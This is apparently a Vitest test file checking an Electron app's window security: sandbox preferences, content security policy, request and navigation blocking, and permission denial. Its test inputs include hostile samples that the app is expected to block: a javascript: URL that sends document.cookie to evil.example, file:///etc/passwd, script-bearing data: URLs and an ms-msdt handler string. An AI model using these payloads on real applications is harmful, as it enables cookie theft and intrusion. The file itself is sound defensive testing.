import { readFileSync } from 'node:fs';
import { beforeEach, describe, expect, it, vi } from 'vitest';
import type { App, WebContents } from 'electron';
import { app, BrowserWindow, FakeWebContents, fakeEvent, shell } from './fake-electron';
import {
  CONTENT_SECURITY_POLICY,
  META_CONTENT_SECURITY_POLICY,
  createMainWindow,
  guardAllWebContents,
  guardWebContents,
  openExternalSafely,
  safeExternalUrl,
  usesNativeSpellchecker,
} from '../../electron/main/window';
import type { WindowState } from '../../electron/main/window-state';

vi.mock('electron', () => import('./fake-electron'));

const logger = { info: vi.fn(), warn: vi.fn(), error: vi.fn() };

function openWindow(options: { state?: WindowState; onLoadFailed?: (error: unknown) => void } = {}): BrowserWindow {
  createMainWindow({ preloadPath: '/app/dist/preload/index.cjs', logger, ...options });
  const win = BrowserWindow.created.at(-1);
  if (!win) throw new Error('no window was created');
  return win;
}

beforeEach(() => {
  shell.openExternal.mockReset();
  shell.openExternal.mockResolvedValue(undefined);
  logger.warn.mockClear();
});

/** Lets the promise chains behind a link click settle. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 0));

describe('the main window', () => {
  it('runs the renderer isolated, sandboxed, without Node and with web security', () => {
    const prefs = openWindow().options.webPreferences;
    expect(prefs).toMatchObject({
      contextIsolation: true,
      sandbox: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      webviewTag: false,
      navigateOnDragDrop: false,
      disableBlinkFeatures: 'Auxclick',
      spellcheck: usesNativeSpellchecker(process.platform),
      preload: '/app/dist/preload/index.cjs',
    });
    // Nothing that would loosen the sandbox again.
    for (const risky of ['enableBlinkFeatures', 'experimentalFeatures', 'enableRemoteModule', 'additionalArguments', 'partition'])
      expect(prefs).not.toHaveProperty(risky);
  });

  it('spell-checks with the OS where it has one, and never downloads dictionaries on Linux', () => {
    expect(usesNativeSpellchecker('darwin')).toBe(true);
    expect(usesNativeSpellchecker('win32')).toBe(true);
    expect(usesNativeSpellchecker('linux')).toBe(false);
  });

  it('loads the renderer from app://outbox/, whatever the install path', () => {
    expect(openWindow().loadURL).toHaveBeenCalledWith('app://outbox/index.html');
  });

  it('sets no CSP header on the session, so DevTools and other pages keep their own (the app scheme sends ours)', () => {
    expect(openWindow().webContents.session.headersListener).toBeNull();
  });

  it('says so when the page cannot be loaded (a damaged install), instead of never showing a window', async () => {
    const onLoadFailed = vi.fn();
    BrowserWindow.failNextLoad = new Error('ERR_FILE_NOT_FOUND (-6) loading app://outbox/index.html');
    openWindow({ onLoadFailed });
    await vi.waitFor(() => expect(onLoadFailed).toHaveBeenCalledWith(BrowserWindow.failNextLoad));
    expect(logger.error).toHaveBeenCalledWith(expect.stringContaining('could not load the renderer: ERR_FILE_NOT_FOUND'));
    BrowserWindow.failNextLoad = null;
  });

  it('maximizes a window that was maximized only once its first paint is ready, and then shows it', () => {
    const win = openWindow({ state: { bounds: { x: 10, y: 20, width: 900, height: 600 }, maximized: true, fullScreen: false } });
    expect(win.bounds).toEqual({ x: 10, y: 20, width: 900, height: 600 });
    expect(win.maximize).not.toHaveBeenCalled();
    expect(win.show).not.toHaveBeenCalled();
    win.emit('ready-to-show');
    expect(win.maximize).toHaveBeenCalledTimes(1);
    expect(win.show).toHaveBeenCalled();
  });

  it("refuses every request to the network and to files, letting only the app's own origin and inline data load", () => {
    const session = openWindow().webContents.session;
    const answer = (url: string): unknown => {
      const callback = vi.fn();
      session.requestListener?.({ url, resourceType: 'image' }, callback);
      return callback.mock.calls[0]?.[0];
    };
    for (const url of [
      'https://tracker.example/pixel.gif',
      'http://127.0.0.1:8080/x',
      'ws://example.com/',
      'ftp://example.com/f',
      'not a url',
      'file:///etc/passwd',
      'app://evil/x.js',
    ]) {
      expect(answer(url), url).toEqual({ cancel: true });
    }
    for (const url of ['app://outbox/assets/index.js', 'data:image/png;base64,AAAA', 'blob:app://outbox/abc']) {
      expect(answer(url), url).toEqual({ cancel: false });
    }
  });

  it('uses a policy that allows only our own scripts, styles and fonts and no network', () => {
    const directives = CONTENT_SECURITY_POLICY.split('; ');
    expect(directives).toEqual(
      expect.arrayContaining([
        "default-src 'none'",
        'script-src app://outbox',
        'style-src app://outbox',
        'img-src app://outbox data:',
        'font-src app://outbox',
        "connect-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
      ]),
    );
    expect(CONTENT_SECURITY_POLICY).not.toMatch(/unsafe-(inline|eval)|'self'/);
  });

  it('carries the same policy in renderer/index.html, less frame-ancestors which a meta tag cannot set', () => {
    const html = readFileSync(new URL('../../renderer/index.html', import.meta.url), 'utf8');
    const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]*)"/i.exec(html);
    expect(meta?.[1]).toBe(META_CONTENT_SECURITY_POLICY);
    expect(META_CONTENT_SECURITY_POLICY).toBe(CONTENT_SECURITY_POLICY.replace("; frame-ancestors 'none'", ''));
  });

  it('blocks every navigation, opening web links in the browser instead', () => {
    const contents = openWindow().webContents;
    const toFile = fakeEvent({ url: 'file:///etc/passwd' });
    contents.emit('will-navigate', toFile);
    expect(toFile.preventDefault).toHaveBeenCalled();
    expect(shell.openExternal).not.toHaveBeenCalled();

    const toWeb = fakeEvent({ url: 'https://example.com/help' });
    contents.emit('will-navigate', toWeb);
    expect(toWeb.preventDefault).toHaveBeenCalled();
    expect(shell.openExternal).toHaveBeenCalledWith('https://example.com/help');
  });

  it('blocks redirects and webviews', () => {
    const contents = openWindow().webContents;
    const redirect = fakeEvent({ url: 'https://example.com/' });
    contents.emit('will-redirect', redirect);
    expect(redirect.preventDefault).toHaveBeenCalled();
    const webview = fakeEvent();
    contents.emit('will-attach-webview', webview);
    expect(webview.preventDefault).toHaveBeenCalled();
  });

  it('denies window.open, handing only http, https and mailto links to the OS', () => {
    const handler = openWindow().webContents.windowOpenHandler;
    if (!handler) throw new Error('no window open handler');
    const allowed = ['https://example.com/a?b=c', 'http://example.org/', 'mailto:ann@example.com?subject=Hi'];
    const refused = [
      'file:///etc/passwd',
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'smb://server/share',
      'ftp://example.com/',
      'outbox://internal',
      'https://user:secret@example.com/',
      'not a url',
      `https://example.com/${'a'.repeat(3000)}`,
    ];
    for (const url of [...allowed, ...refused])
      expect(handler({ url, frameName: '', features: '', disposition: 'new-window' })).toEqual({ action: 'deny' });
    expect(shell.openExternal.mock.calls.map(([url]) => url)).toEqual(allowed.map((url) => new URL(url).href));
  });

  it('recognises plain web and mail links only', () => {
    expect(safeExternalUrl('HTTPS://Example.com')).toBe('https://example.com/');
    expect(safeExternalUrl('mailto:a@b.c')).toBe('mailto:a@b.c');
    expect(safeExternalUrl('file:///C:/Windows')).toBeNull();
    expect(safeExternalUrl('vbscript:msgbox')).toBeNull();
    expect(safeExternalUrl('https://:pw@example.com/')).toBeNull();
  });

  it('denies every permission request and check', () => {
    const session = openWindow().webContents.session;
    for (const permission of [
      'media',
      'notifications',
      'geolocation',
      'clipboard-read',
      'openExternal',
      'hid',
      'serial',
      'usb',
      'fileSystem',
      'unknown',
    ]) {
      const callback = vi.fn();
      session.permissionRequestHandler?.({}, permission, callback, {});
      expect(callback).toHaveBeenCalledWith(false);
      expect(session.permissionCheckHandler?.(null, permission, 'file://', {})).toBe(false);
    }
  });

  it('keeps frames inside the page from navigating, leaving the top frame to will-navigate', () => {
    const contents = openWindow().webContents;
    const subframe = fakeEvent({ url: 'https://evil.example/', isMainFrame: false });
    contents.emit('will-frame-navigate', subframe);
    expect(subframe.preventDefault).toHaveBeenCalled();
    const top = fakeEvent({ url: 'https://example.com/', isMainFrame: true });
    contents.emit('will-frame-navigate', top);
    expect(top.preventDefault).not.toHaveBeenCalled();
    expect(shell.openExternal).not.toHaveBeenCalled();
  });

  it('logs the scheme of a blocked link, never the link itself', async () => {
    const contents = openWindow().webContents;
    contents.emit('will-navigate', fakeEvent({ url: 'javascript:fetch("https://evil.example/?t="+document.cookie)' }));
    await settle();
    expect(logger.warn).toHaveBeenCalledWith('[window] blocked a link to a javascript: URL');
    expect(JSON.stringify(logger.warn.mock.calls)).not.toContain('evil.example');
  });

  it('says so when the OS cannot open a link, without crashing the window', async () => {
    shell.openExternal.mockRejectedValueOnce(new Error('no browser installed'));
    openWindow().webContents.emit('will-navigate', fakeEvent({ url: 'https://example.com/' }));
    await settle();
    expect(logger.warn).toHaveBeenCalledWith('[window] could not open a link: no browser installed');
  });

  it('opens only validated web and mail links through the shell', async () => {
    expect(await openExternalSafely('https://example.com/a b')).toBe(true);
    expect(shell.openExternal).toHaveBeenCalledWith('https://example.com/a%20b');
    for (const url of [
      'file:///etc/passwd',
      'javascript:alert(1)',
      'ms-msdt:/id PCWDiagnostic',
      'https://ann:pw@example.com/',
      'https://',
    ]) {
      expect(await openExternalSafely(url), url).toBe(false);
    }
    expect(shell.openExternal).toHaveBeenCalledTimes(1);
  });

  describe('every other webContents the app creates (guardAllWebContents)', () => {
    const guardedApp = app as unknown as App;
    guardAllWebContents(guardedApp, logger);

    it('gets the same fences as the main window', () => {
      const contents = new FakeWebContents();
      app.emit('web-contents-created', {}, contents as unknown as WebContents);
      const navigation = fakeEvent({ url: 'file:///etc/passwd' });
      contents.emit('will-navigate', navigation);
      expect(navigation.preventDefault).toHaveBeenCalled();
      expect(contents.windowOpenHandler?.({ url: 'https://example.com/' })).toEqual({ action: 'deny' });
      const webview = fakeEvent();
      contents.emit('will-attach-webview', webview);
      expect(webview.preventDefault).toHaveBeenCalled();
      const callback = vi.fn();
      contents.session.permissionRequestHandler?.(contents, 'media', callback, {});
      expect(callback).toHaveBeenCalledWith(false);
      expect(contents.session.headersListener).toBeNull();
    });

    it('guards the main window once, so a link opens once', async () => {
      const contents = openWindow().webContents;
      app.emit('web-contents-created', {}, contents as unknown as WebContents);
      guardWebContents(contents as unknown as WebContents, logger);
      contents.emit('will-navigate', fakeEvent({ url: 'https://example.com/help' }));
      await settle();
      expect(shell.openExternal).toHaveBeenCalledTimes(1);
      expect(contents.listenerCount('will-navigate')).toBe(1);
    });
  });
});
